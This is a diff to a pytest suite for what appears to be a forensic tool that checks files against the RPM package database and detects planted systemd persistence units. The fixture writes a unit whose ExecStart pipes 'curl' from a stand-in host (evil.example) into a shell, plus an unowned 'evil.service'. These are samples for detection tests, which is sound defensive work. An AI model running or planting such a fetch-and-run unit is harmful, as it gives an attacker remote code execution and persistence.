@@ -35,6 +35,9 @@ def rpm_image(tmp_path_factory) -> Path:
     (root / "usr/share/doc/demo/README").unlink()
     (root / "etc/demo/optional.conf").unlink()  # %config(missingok): rpm -V stays quiet
     (root / "usr/bin/dropped").write_bytes(b"\x7fELF dropped")
+    units = root / "usr/lib/systemd/system"
+    (units / "demo-helper.service").write_text("[Service]\nExecStart=/bin/sh -c 'curl -s http://evil.example/x | sh'\n")
+    (units / "evil.service").write_text("[Service]\nExecStart=/usr/bin/dropped\n")
     (root / "usr/lib64/libhide.so").write_bytes(ELF_SO)
     return root
 
@@ -80,6 +83,8 @@ EXPECTED_INTEGRITY = {
     "/usr/sbin/demod": ("libdemo", "changed", 0, "md5", ["file differs from what package libdemo installed",
                                                          "a system binary or library replaced (trojan?)"]),
     "/etc/demo/demo.conf": ("demo-tool", "changed", 1, "sha256", ["configuration file edited since install"]),
+    "/usr/lib/systemd/system/demo-helper.service": ("demo-tool", "changed", 0, "sha256",
+                                                    ["file differs from what package demo-tool installed"]),
     "/usr/share/doc/demo/README": ("demo-tool", "missing", 0, "sha256", []),
     "/usr/bin/dropped": (None, "unowned", 0, None, ["in a system folder but no package owns it"]),
     "/usr/lib64/libhide.so": (None, "unowned", 0, None, ["in a system folder but no package owns it"]),
@@ -161,3 +166,16 @@ def test_sqlite_wal_is_read_and_a_linked_database_once(rpm_image, run_collect, t
     # the deletion lives only in the write-ahead log; the database is read once although two paths reach it
     assert [r["name"] for r in db["packages"].rows] == [n for h, n in names.items() if h != gone]
     assert [r["source"] for r in db["packages"].rows] == ["/var/lib/rpm/rpmdb.sqlite"]
+
+
+def test_other_collectors_know_rpm_owners(rpm_image, run_collect):
+    """persistence judges unit files by the rpm database as it does by dpkg's: the package's own
+    unit is trusted, an edited one differs from its (sha256) copy, a unit no package ships is planted."""
+    db = run_collect(rpm_image, only=["persistence"])
+    units = {r["name"]: (r["package"], json.loads(r["flags"]))
+             for r in db["persistence"].rows if r["kind"] == "systemd_system_unit"}
+    assert units["demo.service"] == ("demo-tool", [])
+    assert units["demo-helper.service"][0] == "demo-tool"
+    assert "differs from the copy package demo-tool installed" in units["demo-helper.service"][1]
+    assert units["evil.service"][0] is None
+    assert "no package owns this file, in a folder only packages fill" in units["evil.service"][1]
